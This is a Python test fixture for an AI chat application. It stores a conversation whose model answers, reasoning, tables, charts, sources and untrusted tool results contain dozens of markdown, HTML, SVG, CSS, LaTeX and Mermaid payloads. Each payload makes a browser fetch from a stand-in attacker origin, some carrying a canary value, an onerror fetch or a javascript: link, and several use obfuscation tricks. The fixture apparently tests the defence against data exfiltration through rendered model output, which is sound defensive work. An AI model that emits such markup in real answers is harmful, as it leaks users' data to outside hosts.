"""What a page, a document or a tool may have a model say, so that a browser asks another host for something."""

from __future__ import annotations

import base64
import re
import uuid
from datetime import UTC, datetime
from pathlib import Path

from core.access.sign_in import LOCAL_OWNER_ID
from data.store import OwnerId
from data.store.turns import BeginTurn
from data.values.actor import Actor
from data.values.calls import CallIntent, CallOutcome, CallStatus, ErrorKind, TokenUsage
from data.values.messages import MessageStatus
from data.values.parts import (
    ChartPart,
    ErrorPart,
    NoticePart,
    Part,
    ReasoningPart,
    SourcesPart,
    TablePart,
    TextFilePart,
    TextPart,
    ToolCallPart,
    ToolResultPart,
)
from data.values.sources import Source
from data.values.tool_calls import ToolState
from tests.databases import open_store

CANARY = "CANARY-7f3a"
LAST = "That was all of it."


_MARKDOWN = (
    "![a](EVIL/m1?c=CANARY-7f3a)",
    "![a](<EVIL/m2?c=CANARY-7f3a> 'title')",
    "![a][ref]\n\n[ref]: EVIL/m3?c=CANARY-7f3a",
    "![ref4][]\n\n[ref4]: <EVIL/m4>",
    "![ref5]\n\n[ref5]: EVIL/m5",
    "[![a](EVIL/m6)](EVIL/m6b)",
    "![a](//HOST/m7)",
    "![a](ENCODED/m8)",
    "![a](WIDE/m9)",
    "\\\\![a](EVIL/m10)",
    "!\u200b[a](EVIL/m11) ![a](EVIL/m11b){width=1}",
    "- ```\n  code\n\n![a](EVIL/m12)",
    "`not closed\n\n![a](EVIL/m13)\n\n`",
    "    ```\n\n![a](EVIL/m14)\n\n    ```",
    "> ```\n> in a quotation\n\n![a](EVIL/m15)",
    "| a | b |\n|---|---|\n| ![a](EVIL/m16) | <img src='EVIL/m16b'> |",
    "# ![a](EVIL/m17)",
    "[^1]\n\n[^1]: ![a](EVIL/m18)",
    "<img src='EVIL/h1'>",
    "<img srcset='EVIL/h2 1x' src=x onerror='fetch(\"EVIL/h2b?c=CANARY-7f3a\")'>",
    "<picture><source srcset='EVIL/h3'><img></picture>",
    "<svg><image href='EVIL/h4'/><use href='EVIL/h4b#x'/></svg>",
    "<style>@import 'EVIL/h5'; body { background: url(EVIL/h5b) }</style>",
    "<div style='background:url(EVIL/h6)'>x</div>",
    "<link rel=stylesheet href='EVIL/h7'><link rel=prefetch href='EVIL/h7b'>",
    "<link rel=dns-prefetch href='//HOST'><link rel=preconnect href='EVIL/'>",
    "<meta http-equiv=refresh content='0;url=EVIL/h8'>",
    "<base href='EVIL/'>",
    "<iframe src='EVIL/h9'></iframe><embed src='EVIL/h9b'><object data='EVIL/h9c'></object>",
    "<script>fetch('EVIL/h10')</script><script src='EVIL/h10b'></script>",
    "<video poster='EVIL/h11' src='EVIL/h11b'></video><audio src='EVIL/h11c' autoplay></audio>",
    "<form action='EVIL/h12'><input type=image src='EVIL/h12b'></form>",
    "<body background='EVIL/h13'><table background='EVIL/h13b'>",
    "![a](data:image/svg+xml;base64,PACKED)",
    "![a](data:text/html;base64,PAGE)",
    "[a](javascript:fetch('EVIL/i16'))",
    "EVIL/auto1?c=CANARY-7f3a <EVIL/auto2> www.example.org/auto3",
    "$\\includegraphics{EVIL/t1}$ $\\href{EVIL/t2}{x}$ $\\url{EVIL/t3}$",
    "$$\\htmlStyle{background:url(EVIL/t4)}{x} \\htmlData{a=EVIL/t4b}{y}$$",
    "\\[\\includegraphics[width=1em]{EVIL/t5}\\]",
    '```mermaid\nflowchart LR\n A["<img src=\'EVIL/d1\'>"] --> B\n click A href "EVIL/d1b"\n```',
    '```mermaid\nflowchart LR\n A@{ img: "EVIL/d2", label: "x" }\n```',
    "```mermaid\n%%{init: {'themeCSS': '* { background: url(EVIL/d3) }'}}%%\nflowchart LR\n A --> B\n```",
    "```mermaid\nflowchart LR\n A --> B\n style A fill:url(EVIL/d4)\n```",
    "```html\n<img src='EVIL/c1'>\n```",
    "```svg\n<svg><image href='EVIL/c2'/></svg>\n```",
    ":material/home: :red[![a](EVIL/s1)] :streamlit: :image[EVIL/s1b]",
    "<a href='EVIL/p1' ping='EVIL/p1b'>x</a> [x](EVIL/p2 \"title\")",
    "<img src='EVIL/e1'>".replace("<", "\uff1c").replace(">", "\uff1e"),
    "<<img src='EVIL/e2'>script>",
    "<!--[if IE]><img src='EVIL/e3'><![endif]--><![CDATA[<img src='EVIL/e3b'>]]>",
)


def in_markdown(evil: str) -> tuple[str, ...]:
    """Markdown that draws, frames, styles or fetches, each naming `evil`, an origin."""
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{evil}/i14"/></svg>'
    words = {
        "WIDE": evil.replace("://", "://\u2060"),
        "HOST": evil.partition("://")[2],
        "ENCODED": "".join(f"&#{ord(char)};" for char in evil),
        "PACKED": base64.b64encode(svg.encode()).decode(),
        "PAGE": base64.b64encode(f'<img src="{evil}/i15">'.encode()).decode(),
        "EVIL": evil,
    }
    return tuple(re.sub("|".join(words), lambda found: words[found.group()], each) for each in _MARKDOWN)


def in_figures(evil: str) -> tuple[dict[str, object], ...]:
    """Figures that load something."""
    bar = {"type": "bar", "x": ["a"], "y": [1]}
    return (
        {"data": [bar], "layout": {"images": [{"source": f"{evil}/f1", "xref": "paper", "sizex": 1, "sizey": 1}]}},
        {"data": [{**bar, "hovertemplate": f"<img src='{evil}/f2'>"}], "layout": {}},
        {"data": [{"type": "image", "source": f"{evil}/f3"}], "layout": {}},
        {"data": [bar], "layout": {"annotations": [{"text": f"<a href='{evil}/f4'>x</a><img src='{evil}/f4b'>"}]}},
        {"data": [{"type": "scattermap", "lat": [1], "lon": [1]}], "layout": {"map": {"style": f"{evil}/f5"}}},
        {"data": [bar], "layout": {"font": {"family": f"x;background:url({evil}/f6)"}}},
        {"data": [bar], "layout": {"title": {"text": f"<img src='{evil}/f7'>"}}},
    )


def parts(evil: str) -> tuple[Part, ...]:
    """An answer that holds all of them, in every kind of part that is drawn."""
    markdown = in_markdown(evil)
    mixed = f"![a]({evil}/x1) <img src='{evil}/x2'> [r]: {evil}/x3"
    results: list[Part] = [
        TextPart("\n\n".join(markdown)),
        TablePart(
            mixed, (mixed, "b"), ((mixed, f"{evil}/x4.png"), (f"data:image/svg+xml,<image href='{evil}/x5'/>", 1)), 9
        ),
        *(ChartPart(mixed, figure) for figure in in_figures(evil)),
    ]
    call = ToolCallPart("call_1", mixed, f'{{"q": "{mixed} {CANARY}"}}', ToolState.DONE, mixed)
    return (
        NoticePart(mixed),
        ReasoningPart("\n\n".join(markdown)),
        *(TextPart(each) for each in markdown),
        call,
        ToolResultPart("call_1", tuple(results), is_untrusted=True, seconds=1.0),
        TextPart(LAST),
        SourcesPart((Source(f"{evil}/source?a=![x]({evil}/x6)", mixed),)),
        ErrorPart(ErrorKind.BAD_RESPONSE, mixed, mixed),
    )


def conversation(home: Path, evil: str) -> str:
    """Store a conversation that holds all of them; returns its id."""
    store = open_store(f"sqlite:///{home / 'gearbox.db'}", owner=OwnerId.current())
    mixed = f"![a]({evil}/y1) <img src='{evil}/y2'>"
    try:
        store.users.ensure(LOCAL_OWNER_ID, "Owner")
        actor = Actor(LOCAL_OWNER_ID, frozenset())
        call = CallIntent(uuid.uuid4().hex, actor, "sandbox", mixed, datetime.now(UTC), "sandbox")
        asked = (TextFilePart(f"{mixed}.md", mixed, 9), TextPart(mixed))
        begun = store.turns.begin(BeginTurn(LOCAL_OWNER_ID, None, mixed, asked, call)).result(10)
        store.turns.finish(
            begun.turn_id,
            status=MessageStatus.COMPLETE,
            parts=parts(evil),
            call_id=call.id,
            outcome=CallOutcome(CallStatus.OK, 900.0, 120.0, TokenUsage(400, 90)),
        ).result(10)
        return begun.conversation_id
    finally:
        store.close()
